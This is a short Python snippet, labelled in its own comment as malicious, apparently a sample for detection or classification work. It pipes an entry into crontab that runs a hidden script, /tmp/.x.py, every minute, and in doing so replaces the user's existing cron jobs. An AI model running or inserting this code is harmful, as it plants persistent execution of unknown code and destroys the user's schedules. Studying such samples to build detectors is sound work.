# malicious: a job every minute by a pipe
import subprocess

p = subprocess.Popen(["crontab", "-"], stdin=subprocess.PIPE)
p.communicate(b"* * * * * python3 /tmp/.x.py\n")
